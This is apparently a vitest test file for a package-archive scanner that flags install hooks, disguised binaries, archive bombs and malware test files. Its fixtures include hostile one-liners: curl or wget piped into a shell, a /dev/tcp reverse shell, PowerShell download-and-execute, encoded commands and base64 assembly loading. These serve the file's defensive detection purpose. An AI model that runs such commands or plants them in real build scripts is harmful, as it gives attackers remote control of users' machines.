import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import type { ScanFinding } from '../domain/findings.ts';
import { nestedGzipBomb } from '../test/security/archives/bombs.ts';
import { scanBody } from '../test/security/archives/on-disk.ts';
import { eicar } from '../test/security/archives/payloads.ts';
import { tarEntry, tgz } from '../test/security/archives/tar-bytes.ts';
import { zip } from '../test/security/archives/zip-bytes.ts';

const elf = Buffer.concat([Buffer.from('\x7fELF', 'latin1'), Buffer.alloc(60)]);
const png = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');

type Files = Record<string, string | Buffer>;

describe('install hooks', () => {
  it.each<[string, Files, string, string]>([
    [
      'a build script',
      { 'Cargo.toml': '[package]', 'build.rs': 'fn main() {}' },
      'info',
      'Runs a build script',
    ],
    [
      'a build script in other letters',
      { 'Cargo.toml': '[package]', 'Build.RS': 'fn main() {}' },
      'info',
      'Runs a build script',
    ],
    [
      'a named build script',
      { 'Cargo.toml': 'build = "b/m.rs"', 'b/m.rs': 'fn main() {}' },
      'info',
      'Runs a build script',
    ],
    ['a proc macro', { 'Cargo.toml': '[lib]\nproc-macro = true' }, 'info', 'Runs as a compiler plug-in'],
    ['an install script', { 'tools/install.ps1': 'Write-Host hi' }, 'medium', 'Runs a script on install'],
    [
      'a framework init script',
      { 'tools/net45/Init.ps1': 'Write-Host hi' },
      'medium',
      'Runs a script on install',
    ],
    [
      'a build target that runs commands',
      { 'build/x.targets': '<Exec Command="x"/>' },
      'medium',
      'Runs commands during a build',
    ],
    [
      'an inline task',
      { 'buildTransitive/net8.0/x.props': '<UsingTask />' },
      'medium',
      'Runs commands during a build',
    ],
  ])('reports %s', async (_, files, severity, title) => {
    expect(await scan(files)).toMatchObject([{ kind: 'suspicious_install_hook', severity, title }]);
  });

  it.each([
    [
      'curl into a shell',
      'build.rs',
      'Command::new("sh").arg("-c").arg("curl -s https://x.example/a | sh");',
    ],
    ['wget into bash as root', 'build.rs', 'sh("wget -qO- https://x.example/a | sudo bash")'],
    ['a fetched and started file', 'build.rs', 'Command::new("curl").arg(u);\nCommand::new("sh").arg(f);'],
    ['a decoded program', 'build.rs', 'let p = base64::decode(DATA);\nCommand::new(p)'],
    ['a reverse shell', 'build.rs', 'sh("bash -i >& /dev/tcp/192.0.2.1/443 0>&1")'],
    ['a web request run at once', 'tools/install.ps1', 'iex (iwr https://x.example/a.ps1)'],
    ['a piped web request', 'tools/init.ps1', 'Invoke-WebRequest https://x.example/a | Invoke-Expression'],
    ['a download on several lines', 'tools/init.ps1', '$c.DownloadFile($u, $f)\nStart-Process $f'],
    ['an encoded command', 'build/x.targets', '<Exec Command="powershell -NoProfile -enc SQBFAFgA" />'],
    ['a hidden assembly', 'tools/init.ps1', '[Reflection.Assembly]::Load([Convert]::FromBase64String($x))'],
  ])('takes %s in a hook for an attack', async (_, file, text) => {
    const findings = await scan({ 'Cargo.toml': '[package]', [file]: `first line\n${text}` });

    expect(findings[0]).toMatchObject({ kind: 'suspicious_install_hook', severity: 'high', file, line: 2 });
  });

  it.each<[string, Files]>([
    ['a build script that is switched off', { 'Cargo.toml': 'build = false', 'build.rs': 'fn main() {}' }],
    ['a build.rs without a manifest', { 'lib/build.rs': 'fn main() {}' }],
    ['plain properties', { 'build/x.props': '<Project><PropertyGroup/></Project>' }],
    ['a script that is not a hook', { 'content/setup.ps1': 'Write-Host hi' }],
    ['install words in a readme', { 'README.md': 'curl https://x.example/install | sh' }],
  ])('leaves %s alone', async (_, files) => {
    expect(await scan(files)).toEqual([]);
  });

  it('finds the build script below the directory that wraps a crate', async () => {
    const body = tgz(
      tarEntry({ name: 'a-1.0.0/Cargo.toml', body: '[package]\nbuild = "build.rs"' }),
      tarEntry({ name: 'a-1.0.0/build.rs', body: 'fn main() {}' }),
    );

    expect((await scanBody(body, 'tgz')).findings).toMatchObject([
      { file: 'a-1.0.0/build.rs', title: 'Runs a build script' },
    ]);
  });

  it('does not let a huge script escape', async () => {
    const huge = Buffer.alloc(9 * 1024 * 1024, 'fn main() { /* nothing to see here */ }\n');

    const [finding] = await scan({ 'Cargo.toml': '[package]', 'build.rs': huge });

    expect(finding).toMatchObject({ severity: 'high', file: 'build.rs' });
  });
});

describe('compiled code', () => {
  it.each<[string, string, Buffer, string]>([
    ['an ELF library', 'lib/libx.so.1.2', elf, 'low'],
    ['an ELF program without extension', 'bin/x', elf, 'low'],
    ['a native DLL', 'runtimes/win/x.dll', portable(false), 'low'],
    ['a Mach-O library', 'x.dylib', magic('cffaedfe'), 'low'],
    ['a universal Mach-O library', 'x.dylib', magic('cafebabe00000002'), 'low'],
    ['a WebAssembly module', 'x.wasm', magic('0061736d'), 'info'],
    ['an ELF program named as text', 'notes.txt', elf, 'medium'],
    ['a DLL named as an image', 'logo.png', portable(false), 'medium'],
    ['a managed assembly named as text', 'readme.md', portable(true), 'medium'],
  ])('reports %s', async (_, file, body, severity) => {
    expect(await scan({ [file]: body })).toMatchObject([{ kind: 'file_type_anomaly', severity, file }]);
  });

  it.each<[string, string, Buffer]>([
    ['a managed assembly', 'lib/net8.0/x.dll', portable(true)],
    ['a Java class', 'X.class', magic('cafebabe00000041')],
    ['text that begins with MZ', 'mz.txt', Buffer.from('MZ is how some programs begin')],
  ])('leaves %s alone', async (_, file, body) => {
    expect(await scan({ [file]: body })).toEqual([]);
  });
});

describe('file types', () => {
  it.each<[string, string, Buffer | string, string, string]>([
    ['the antivirus test file', 'x.txt', eicar, 'malware', 'critical'],
    ['a nested bomb', 'x.gz', nestedGzipBomb(), 'archive_bomb', 'critical'],
    [
      'a bomb inside a nested archive',
      'x.zip',
      zip([{ name: 'a.gz', body: nestedGzipBomb() }]),
      'archive_bomb',
      'critical',
    ],
    [
      'malware inside a nested tar',
      'x.tgz',
      tgz(tarEntry({ name: 'a', body: eicar })),
      'malware',
      'critical',
    ],
    ['a page named as an image', 'x.png', '<!DOCTYPE html><body>', 'file_type_anomaly', 'medium'],
    [
      'a script behind an image',
      'x.gif',
      'GIF89a/*<script>alert(1)</script>*/',
      'file_type_anomaly',
      'medium',
    ],
    ['a program named as an image', 'x.jpg', '#!/bin/sh\nrm -r x', 'file_type_anomaly', 'medium'],
    ['a script in a drawing', 'x.svg', '<svg onload="x()"></svg>', 'file_type_anomaly', 'low'],
    ['a damaged nested archive', 'x.gz', magic('1f8b0800000000000003ffff'), 'file_type_anomaly', 'low'],
  ])('reports %s', async (_, file, body, kind, severity) => {
    const [found, ...others] = await scan({ [file]: body });

    expect(found).toMatchObject({ kind, severity, file: expect.stringContaining(file) });
    expect(others).toEqual([]);
  });

  it.each<[string, string, Buffer | string]>([
    ['an image', 'x.png', png],
    ['a drawing', 'x.svg', '<svg><path d="M0 0"/></svg>'],
    ['a page', 'x.html', '<!DOCTYPE html><script>1</script>'],
    ['a nested archive', 'x.tgz', tgz(tarEntry({ name: 'a', body: 'text' }))],
    ['a compressed file', 'x.gz', gzipSync('text')],
    ['an archive in an archive', 'x.zip', zip([{ name: 'y.zip', body: zip([{ name: 'a', body: 'text' }]) }])],
  ])('leaves %s alone', async (_, file, body) => {
    expect(await scan({ [file]: body })).toEqual([]);
  });
});

async function scan(files: Files): Promise<readonly ScanFinding[]> {
  const specs = Object.entries({ ...files, 'zz.txt': 'no common root' }).map(([name, body]) => ({
    name,
    body,
    method: 0,
  }));
  return (await scanBody(zip(specs), 'zip')).findings;
}

function magic(hex: string): Buffer {
  return Buffer.concat([Buffer.from(hex, 'hex'), Buffer.alloc(60)]);
}

/** A 64-bit PE header, with or without a CLR header. */
function portable(isManaged: boolean): Buffer {
  const file = Buffer.alloc(1024);
  file.write('MZ');
  file.writeUInt32LE(0x80, 0x3c);
  file.write('PE\0\0', 0x80);
  file.writeUInt16LE(0x20b, 0x98);
  if (isManaged) file.writeUInt32LE(0x2008, 0x98 + 112 + 14 * 8);
  return file;
}
